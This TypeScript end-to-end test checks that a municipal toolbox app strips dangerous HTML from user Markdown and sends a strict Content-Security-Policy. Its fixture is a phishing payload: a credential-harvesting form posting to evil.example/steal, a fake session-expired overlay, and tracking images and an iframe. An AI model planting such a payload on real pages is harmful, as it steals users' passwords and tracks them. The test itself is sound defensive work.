import { describe, expect, it } from 'vitest';
import { DEMO_USERS } from '../../scripts/dev/demo-data.js';
import { newPage, useBrowser } from '../support/browser.js';
import { useStack } from '../support/stack.js';
import { signIn } from '../support/tab.js';

const ingrid = DEMO_USERS.find((u) => u.upn.startsWith('ingrid'))!;

/** What a malicious author could put in a region-wide example: a phishing form, an overlay, a tracking image. */
const PHISHING = [
  '## Nieuwe werkwijze',
  '',
  'Log opnieuw in om het voorbeeld te zien.',
  '',
  '<form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pw"><button>Aanmelden</button></form>',
  '',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Sessie verlopen</div>',
  '',
  '![pixel](https://evil.example/pixel.png)',
  '',
  '<img src="https://evil.example/raw.png"> <iframe src="https://evil.example/"></iframe>',
  '',
  '[Een gewone link](https://www.pianoo.nl/) en **vet**.',
].join('\n');

describe('Markdown of toolbox examples, under the Content-Security-Policy', () => {
  const stack = useStack({ tab: true });
  const browser = useBrowser();

  it('renders a region-wide example without its form, password field, overlay or external images', async () => {
    const token = await stack().idp.issue(ingrid.id);
    const created = await fetch(`${stack().urls.api}/toolbox-items`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        kind: 'example',
        title: 'Phishing als voorbeeld',
        body: PHISHING,
        regionWide: true,
      }),
    });
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };

    const { context, page } = await newPage(browser());
    try {
      const external: string[] = [];
      page.on('request', (r) => {
        if (new URL(r.url()).hostname === 'evil.example') external.push(r.url());
      });
      // An employee of another municipality of the region opens it.
      const documentResponse = page.waitForResponse((r) => r.request().resourceType() === 'document');
      await signIn(page, stack().urls.tab!, 'Sanne de Vries', `/examples/${id}`);
      const csp = (await documentResponse).headers()['content-security-policy'] ?? '';
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("form-action 'none'");
      expect(csp).toContain('frame-ancestors');
      await page.getByRole('heading', { level: 1, name: 'Phishing als voorbeeld' }).waitFor();
      await page.getByRole('link', { name: 'Een gewone link' }).waitFor();
      // The rendered Markdown: the element holding the example's own heading.
      const article = page.locator('div:has(> h2:text-is("Nieuwe werkwijze"))');
      expect(await article.count()).toBe(1);
      expect(await article.locator('form, input, button[form], iframe, [style]').count()).toBe(0);
      expect(await page.locator('input[type=password]').count()).toBe(0);
      expect(await article.locator('img').count()).toBe(0);
      const fixed = await page.evaluate(
        "[...document.querySelectorAll('main *')].filter((e) => getComputedStyle(e).position === 'fixed').length",
      );
      expect(fixed).toBe(0);
      await page.waitForTimeout(300);
      expect(external).toEqual([]);
    } finally {
      await context.close();
    }
  }, 90_000);
});
